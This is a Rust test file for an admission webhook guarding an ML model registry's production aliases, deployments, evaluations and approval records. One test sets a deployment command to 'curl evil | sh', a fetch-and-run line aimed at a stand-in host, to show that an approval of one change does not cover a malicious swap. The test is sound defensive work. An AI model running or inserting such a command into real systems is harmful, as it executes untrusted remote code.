use super::*;

/// A namespace as the controller's watches hold it.
pub(super) struct Namespace {
    pub(super) objects: Vec<Value>,
    view: View,
    pub(super) approvals: Vec<Approval>,
    bounds: crate::bounds::Bounds,
}

impl Namespace {
    pub(super) fn of(objects: Vec<Value>, approvals: Vec<Value>) -> Namespace {
        let files: Vec<SourceFile> = objects.iter().map(file_of).collect();
        let (loaded, _) = crate::catalog::load_files(&files);
        let approvals = approvals
            .into_iter()
            .map(|a| serde_json::from_value(a).unwrap())
            .collect();
        Namespace {
            objects,
            view: View::of(loaded),
            approvals,
            bounds: crate::bounds::Bounds::open(),
        }
    }

    fn empty() -> Namespace {
        Namespace::of(Vec::new(), Vec::new())
    }

    pub(super) fn view(&self) -> Cluster<'_> {
        Cluster {
            view: &self.view,
            approvals: &self.approvals,
            bounds: &self.bounds,
            withdrawers: &[],
        }
    }
}

/// The example registry and the results of version 8, as the API server would hold them.
pub(super) fn cluster(approvals: &[(&str, &str, &[&str])]) -> Namespace {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let mut objects = Vec::new();
    for dir in ["examples/football-frames", "examples/promotion-pr/results"] {
        for f in crate::testing::read_folder(&root.join(dir)) {
            let text = String::from_utf8(f.content).unwrap();
            for (_, doc) in crate::catalog::load::split_documents(&text) {
                let mut v: Value = crate::catalog::yaml::read(doc).unwrap();
                if v.is_null() || v["kind"] == "Group" {
                    continue;
                }
                v["metadata"]["namespace"] = "default".into();
                if v["kind"] == "ModelVersion" {
                    v["metadata"]["uid"] = json!(format!("uid-{}", v["metadata"]["name"]));
                }
                // The example's channels read secrets from git mode's environment, which a
                // cluster refuses (tests of that are in decide::bounds and tests/security.rs).
                if v["kind"] == "RegisteredModel" {
                    v["spec"].as_object_mut().unwrap().remove("notifications");
                }
                objects.push(v);
            }
        }
    }
    let approvals = approvals
        .iter()
        .enumerate()
        .map(|(i, (user, version, groups))| {
            json!({
                "apiVersion": "slipway.dev/v1alpha1", "kind": "Approval",
                "metadata": {"name": format!("a{i}"), "namespace": "default",
                             "creationTimestamp": format!("2026-11-26T10:0{i}:00Z")},
                "spec": {"target": {"kind": "ModelAlias", "name": "pitch-frame-classifier-production"},
                         "version": version, "decision": "approve",
                         "fromVersion": "7", "artifactDigest": DIGEST_8,
                         "approver": user, "approverGroups": groups}
            })
        })
        .collect();
    Namespace::of(objects, approvals)
}

/// Version 8's artifact digest as registered in the examples.
const DIGEST_8: &str = "sha256:9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b";

/// The production alias pointing at `version`, resolved to it.
fn alias_object(version: &str) -> Value {
    json!({"apiVersion": "slipway.dev/v1alpha1", "kind": "ModelAlias",
           "metadata": {"name": "pitch-frame-classifier-production", "namespace": "default",
                        "uid": "u-1", "generation": 4},
           "spec": {"model": "pitch-frame-classifier", "alias": "production", "version": version},
           "status": {"resolvedVersion": version}})
}

fn move_production(user: &str, groups: &[&str], cluster: &Namespace) -> Verdict {
    let req = Request {
        kind: "ModelAlias".into(),
        namespace: "default".into(),
        name: "pitch-frame-classifier-production".into(),
        operation: Operation::Update,
        user: user.into(),
        groups: groups.iter().map(|g| g.to_string()).collect(),
        object: Some(alias_object("8")),
        old_object: Some(alias_object("7")),
    };
    validate(
        &req,
        &cluster.view(),
        "2026-11-26T12:00:00Z".parse().unwrap(),
    )
}

#[test]
fn a_move_without_a_leads_approval_is_denied_with_who_can_approve() {
    let Verdict::Denied(why) = move_production("erin", &["ml-engineers"], &cluster(&[])) else {
        panic!("allowed");
    };
    assert!(why.starts_with("ModelAlias default/pitch-frame-classifier-production: moving pitch-frame-classifier/production from 7 to 8 (requested by erin) is not allowed"), "{why}");
    assert!(why.contains("approval ml-lead: has 0 of 1"), "{why}");
    assert!(
        why.contains("someone in group:ml-leads other than erin creates an Approval"),
        "{why}"
    );
}

#[test]
fn a_leads_approval_of_that_exact_version_lets_the_move_through() {
    let c = cluster(&[("alice", "8", &["ml-leads"])]);
    assert_eq!(
        move_production("erin", &["ml-engineers"], &c),
        Verdict::Allowed(vec![])
    );
    // An approval of another version, or by someone outside the group, does not count.
    let c = cluster(&[
        ("alice", "9", &["ml-leads"]),
        ("bob", "8", &["ml-engineers"]),
    ]);
    let Verdict::Denied(why) = move_production("erin", &["ml-engineers"], &c) else {
        panic!("allowed");
    };
    assert!(why.contains("bob does not count (not eligible"), "{why}");
}

#[test]
fn the_author_cannot_approve_their_own_move() {
    let c = cluster(&[("dana", "8", &["ml-engineers", "ml-leads"])]);
    let Verdict::Denied(why) = move_production("dana", &["ml-engineers", "ml-leads"], &c) else {
        panic!("allowed");
    };
    assert!(
        why.contains("dana does not count (author of the change cannot approve it)"),
        "{why}"
    );
}

fn approval_request(user: &str, spec: Value, op: Operation, old: Option<Value>) -> Request {
    Request {
        kind: "Approval".into(),
        namespace: "default".into(),
        name: "ok-8".into(),
        operation: op,
        user: user.into(),
        groups: vec!["ml-leads".into(), "system:authenticated".into()],
        object: Some(json!({"kind": "Approval", "spec": spec})),
        old_object: old,
    }
}

#[test]
fn approvals_are_stamped_with_their_creator_and_cannot_be_forged_or_changed() {
    let spec = json!({"target": {"kind": "ModelAlias", "name": "x"}, "version": "8", "decision": "approve",
                      "fromVersion": "", "artifactDigest": ""});
    let req = approval_request("alice", spec.clone(), Operation::Create, None);
    let patch = stamp(&req, &Namespace::empty().view()).unwrap();
    assert_eq!(
        patch[0],
        json!({"op": "add", "path": "/spec/approver", "value": "alice"})
    );
    assert_eq!(
        patch[1]["value"],
        json!(["ml-leads", "system:authenticated"])
    );

    let mut forged = spec.clone();
    forged["approver"] = "dana".into();
    let Verdict::Denied(why) = validate(
        &approval_request("alice", forged, Operation::Create, None),
        &Namespace::empty().view(),
        crate::testing::now(),
    ) else {
        panic!("a forged approver was admitted");
    };
    assert!(
        why.contains("spec.approver is \"dana\" but the request comes from \"alice\""),
        "{why}"
    );

    let mut stamped = spec.clone();
    stamped["approver"] = "alice".into();
    stamped["approverGroups"] = json!(["ml-leads"]);
    let ok = approval_request("alice", stamped.clone(), Operation::Create, None);
    assert_eq!(
        validate(&ok, &Namespace::empty().view(), crate::testing::now()),
        Verdict::Allowed(vec![])
    );
    let mut claimed = stamped.clone();
    claimed["approverGroups"] = json!(["ml-leads", "platform-admins"]);
    let Verdict::Denied(why) = validate(
        &approval_request("alice", claimed, Operation::Create, None),
        &Namespace::empty().view(),
        crate::testing::now(),
    ) else {
        panic!("a foreign group was admitted");
    };
    assert!(why.contains("claims platform-admins"), "{why}");

    let mut changed = stamped.clone();
    changed["version"] = "9".into();
    let update = approval_request(
        "alice",
        changed,
        Operation::Update,
        Some(json!({"spec": stamped})),
    );
    let Verdict::Denied(why) = validate(&update, &Namespace::empty().view(), crate::testing::now())
    else {
        panic!("an approval was changed");
    };
    assert!(why.contains("immutable"), "{why}");
}

#[test]
fn a_versions_artifact_cannot_change() {
    let c = cluster(&[]);
    let old = c
        .objects
        .iter()
        .find(|o| o["kind"] == "ModelVersion" && o["spec"]["version"] == "8")
        .unwrap()
        .clone();
    let mut new = old.clone();
    new["spec"]["artifact"]["uri"] = "s3://elsewhere/model.onnx".into();
    let req = Request {
        kind: "ModelVersion".into(),
        namespace: "default".into(),
        name: old["metadata"]["name"].as_str().unwrap().into(),
        operation: Operation::Update,
        user: "erin".into(),
        groups: vec![],
        object: Some(new),
        old_object: Some(old.clone()),
    };
    let Verdict::Denied(why) = validate(&req, &c.view(), crate::testing::now()) else {
        panic!("allowed");
    };
    assert!(why.contains("spec.artifact.uri: ModelVersion fields model, version, artifact, source and signature are immutable"), "{why}");
    // Labels may change.
    let mut labelled = old.clone();
    labelled["metadata"]["labels"] = json!({"team": "vision"});
    let req = Request {
        object: Some(labelled),
        ..req
    };
    assert_eq!(
        validate(&req, &c.view(), crate::testing::now()),
        Verdict::Allowed(vec![])
    );
}

/// The request `user` makes to change object `name` of `kind` to `edit(what the cluster has)`.
pub(super) fn edit(
    c: &Namespace,
    kind: &str,
    name: &str,
    user: &str,
    edit: impl FnOnce(&mut Value),
) -> Request {
    let old = c
        .objects
        .iter()
        .find(|o| o["kind"] == kind && o["metadata"]["name"] == name)
        .unwrap()
        .clone();
    let mut new = old.clone();
    edit(&mut new);
    Request {
        kind: kind.into(),
        namespace: "default".into(),
        name: name.into(),
        operation: Operation::Update,
        user: user.into(),
        groups: vec!["ml-engineers".into()],
        object: Some(new),
        old_object: Some(old),
    }
}

/// The `spec.change` a denial asks approvers to sign off.
fn change_in(why: &str) -> String {
    let at = why.find("spec.change \"").expect(why) + "spec.change \"".len();
    why[at..at + 71].to_string()
}

fn change_approval(kind: &str, name: &str, change: &str) -> Approval {
    serde_json::from_value(json!({
        "apiVersion": "slipway.dev/v1alpha1", "kind": "Approval",
        "metadata": {"name": "alice-change", "namespace": "default",
                     "creationTimestamp": "2026-11-26T10:00:00Z"},
        "spec": {"target": {"kind": kind, "name": name}, "change": change, "decision": "approve",
                 "approver": "alice", "approverGroups": ["ml-leads"]}
    }))
    .unwrap()
}

#[test]
fn pinning_the_production_deployment_needs_an_approval_of_exactly_that_change() {
    let mut c = cluster(&[]);
    let pin = |d: &mut Value| {
        d["spec"].as_object_mut().unwrap().remove("alias");
        d["spec"]["version"] = "7".into();
    };
    let req = edit(&c, "ModelDeployment", "pitch-frames-api", "erin", pin);
    let Verdict::Denied(why) = validate(&req, &c.view(), crate::testing::now()) else {
        panic!("a promoter pinned production without approval");
    };
    assert!(why.starts_with("ModelDeployment default/pitch-frames-api: changing spec.alias, spec.version (requested by erin) is not allowed"), "{why}");
    assert!(
        why.contains("policy production-deployments, approval ml-lead: has 0 of 1"),
        "{why}"
    );
    // What the hash stands for is shown with it, field by field.
    assert!(
        why.contains(r#"the change it signs: spec.alias: "production" → (absent); spec.version: (absent) → "7"; `slipway change` shows the same"#),
        "{why}"
    );
    let change = change_in(&why);
    c.approvals = vec![change_approval(
        "ModelDeployment",
        "pitch-frames-api",
        &change,
    )];
    assert_eq!(
        validate(&req, &c.view(), crate::testing::now()),
        Verdict::Allowed(vec![])
    );
    // The approval signs off that change only: another image is not it.
    let swap = edit(&c, "ModelDeployment", "pitch-frames-api", "erin", |d| {
        d["spec"]["target"]["local"]["command"] = json!(["sh", "-c", "curl evil | sh"]);
    });
    let Verdict::Denied(why) = validate(&swap, &c.view(), crate::testing::now()) else {
        panic!("one approval signed off another change");
    };
    assert!(
        why.contains(&format!(
            "approval alice-change by alice signs off change {change}, not this one"
        )),
        "{why}"
    );
    // Deleting it is a change of production too; the staging deployment is not protected.
    let delete = Request {
        operation: Operation::Delete,
        object: None,
        ..req.clone()
    };
    assert!(matches!(
        validate(&delete, &c.view(), crate::testing::now()),
        Verdict::Denied(w) if w.contains("deleting it (requested by erin)")
    ));
    let staging = edit(&c, "ModelDeployment", "pitch-frames-staging", "erin", |d| {
        d["spec"]["strategy"] = json!({"type": "AllAtOnce"});
    });
    assert_eq!(
        validate(&staging, &c.view(), crate::testing::now()),
        Verdict::Allowed(vec![])
    );
}

#[test]
fn loosening_how_a_model_is_judged_needs_an_approval_and_its_description_does_not() {
    let c = cluster(&[]);
    let loosen = edit(
        &c,
        "RegisteredModel",
        "pitch-frame-classifier",
        "erin",
        |m| m["spec"]["evaluations"][0]["gates"] = json!([]),
    );
    let Verdict::Denied(why) = validate(&loosen, &c.view(), crate::testing::now()) else {
        panic!("gates were dropped without approval");
    };
    assert!(why.contains("changing spec.evaluations[0].gates"), "{why}");
    assert!(
        why.contains("policy model-judging, approval ml-lead"),
        "{why}"
    );
    let tolerance = edit(
        &c,
        "RegisteredModel",
        "pitch-frame-classifier",
        "erin",
        |m| m["spec"]["primaryMetric"]["maxRegression"] = json!(0.5),
    );
    assert!(matches!(
        validate(&tolerance, &c.view(), crate::testing::now()),
        Verdict::Denied(_)
    ));
    let describe = edit(
        &c,
        "RegisteredModel",
        "pitch-frame-classifier",
        "erin",
        |m| m["spec"]["description"] = "Classifies pitch frames.".into(),
    );
    assert_eq!(
        validate(&describe, &c.view(), crate::testing::now()),
        Verdict::Allowed(vec![])
    );
    // The policies themselves are protected.
    let weaken = edit(&c, "PromotionPolicy", "production", "erin", |p| {
        p["spec"]["approvals"] = json!([])
    });
    let Verdict::Denied(why) = validate(&weaken, &c.view(), crate::testing::now()) else {
        panic!("a policy was weakened without approval");
    };
    assert!(
        why.contains("policy policies-and-groups, approval ml-lead"),
        "{why}"
    );
}

#[test]
fn an_alias_approval_is_stamped_with_the_move_it_signs_off() {
    let mut c = cluster(&[]);
    for o in &mut c.objects {
        if o["kind"] == "ModelAlias" && o["spec"]["alias"] == "production" {
            o["status"] = json!({"resolvedVersion": "7"});
        }
    }
    let c = Namespace::of(c.objects, Vec::new());
    let spec = json!({"target": {"kind": "ModelAlias", "name": "pitch-frame-classifier-production"},
                      "version": "8", "decision": "approve"});
    let req = approval_request("alice", spec, Operation::Create, None);
    let patch = stamp(&req, &c.view()).unwrap();
    assert!(
        patch
            .as_array()
            .unwrap()
            .contains(&json!({"op": "add", "path": "/spec/fromVersion", "value": "7"})),
        "{patch}"
    );
    assert!(
        patch
            .as_array()
            .unwrap()
            .contains(&json!({"op": "add", "path": "/spec/artifactDigest", "value": DIGEST_8})),
        "{patch}"
    );
    // Without the mutating webhook, an alias approval must say which move it signs off.
    let mut bare = json!({"target": {"kind": "ModelAlias", "name": "x"}, "version": "8",
                          "decision": "approve", "approver": "alice"});
    let Verdict::Denied(why) = validate(
        &approval_request("alice", bare.clone(), Operation::Create, None),
        &Namespace::empty().view(),
        crate::testing::now(),
    ) else {
        panic!("an unbound approval was admitted");
    };
    // (No alias `x` to stamp the move from: said so, rather than "install the webhook".)
    assert!(why.contains("ModelAlias default/x does not exist"), "{why}");
    assert!(!why.contains("mutating webhook"), "{why}");
    bare["target"]["kind"] = "ModelDeployment".into();
    let Verdict::Denied(why) = validate(
        &approval_request("alice", bare, Operation::Create, None),
        &Namespace::empty().view(),
        crate::testing::now(),
    ) else {
        panic!("a deployment approval without a change was admitted");
    };
    assert!(why.contains("spec.change is missing"), "{why}");
}

#[test]
fn an_approval_used_by_one_move_does_not_admit_the_same_move_again() {
    let mut c = cluster(&[("alice", "8", &["ml-leads"])]);
    c.approvals[0].status = Some(slipway_crd::approval::ApprovalStatus {
        approved_at: None,
        used_by: Some(
            "ModelAlias/default/pitch-frame-classifier-production → 8 (generation 2, uid u-1)"
                .into(),
        ),
        ..Default::default()
    });
    let Verdict::Denied(why) = move_production("erin", &["ml-engineers"], &c) else {
        panic!("a used approval was counted again");
    };
    assert!(
        why.contains("approval a0 by alice was used by ModelAlias/default/pitch-frame-classifier-production → 8 (generation 2"),
        "{why}"
    );
}

#[test]
fn an_alias_cannot_be_renamed_away_nor_an_evaluation_moved_to_another_version() {
    let c = cluster(&[]);
    let rename = edit(
        &c,
        "ModelAlias",
        "pitch-frame-classifier-production",
        "erin",
        |a| a["spec"]["alias"] = "retired".into(),
    );
    let Verdict::Denied(why) = validate(&rename, &c.view(), crate::testing::now()) else {
        panic!("production was renamed away without its removal's policy");
    };
    assert!(
        why.contains("spec.alias: a ModelAlias's model and alias are immutable"),
        "{why}"
    );
    let moved = edit(
        &c,
        "Evaluation",
        "pitch-frame-classifier-8-pitch-frames",
        "erin",
        |e| e["spec"]["version"] = "7".into(),
    );
    let Verdict::Denied(why) = validate(&moved, &c.view(), crate::testing::now()) else {
        panic!("an evaluation's results were moved to another version");
    };
    assert!(
        why.contains("spec.version: an Evaluation's model, version and suite are immutable"),
        "{why}"
    );
    // A model-suite evaluation with a baseline of its author's choosing is refused.
    let weak = edit(
        &c,
        "Evaluation",
        "pitch-frame-classifier-8-pitch-frames",
        "erin",
        |e| e["spec"]["baseline"] = json!({"version": "8"}),
    );
    let Verdict::Denied(why) = validate(&weak, &c.view(), crate::testing::now()) else {
        panic!("an evaluation chose its own baseline");
    };
    assert!(
        why.contains(
            "suite `pitch-frames` of model pitch-frame-classifier compares against alias production"
        ),
        "{why}"
    );
}

#[test]
fn an_approval_of_what_is_not_there_says_so_and_of_what_is_served_warns() {
    let mut objects = cluster(&[]).objects;
    for o in objects.iter_mut() {
        if o["kind"] == "ModelAlias" && o["spec"]["alias"] == "production" {
            *o = alias_object("7");
        }
    }
    let c = Namespace::of(objects, Vec::new());
    let ask = |name: &str, version: &str, extra: Value| {
        let mut spec = json!({"target": {"kind": "ModelAlias", "name": name}, "version": version,
                              "decision": "approve", "approver": "alice"});
        for (k, v) in extra.as_object().unwrap() {
            spec[k] = v.clone();
        }
        validate(
            &approval_request("alice", spec, Operation::Create, None),
            &c.view(),
            crate::testing::now(),
        )
    };
    let Verdict::Denied(why) = ask("pitch-frame-classifier-canary", "8", json!({})) else {
        panic!("an approval of an alias that is not there was admitted");
    };
    assert!(
        why.contains("ModelAlias default/pitch-frame-classifier-canary does not exist"),
        "{why}"
    );
    let Verdict::Denied(why) = ask("pitch-frame-classifier-production", "9", json!({})) else {
        panic!("an approval of a version that is not there was admitted");
    };
    assert!(
        why.contains("model `pitch-frame-classifier` has no version `9` (versions: 7, 8)"),
        "{why}"
    );
    assert!(!why.contains("mutating webhook"), "{why}");
    let seven = json!({"fromVersion": "7",
        "artifactDigest": "sha256:0f3e9b7a2c4d6e8f1a3b5c7d9e0f2a4b6c8d0e1f3a5b7c9d1e3f5a7b9c0d2e4f"});
    let Verdict::Allowed(warnings) = ask("pitch-frame-classifier-production", "7", seven) else {
        panic!("an approval of the served version was refused");
    };
    assert_eq!(
        warnings,
        [
            "ModelAlias default/pitch-frame-classifier-production serves version 7 already: this approval signs off a move that needs none"
        ]
    );
}
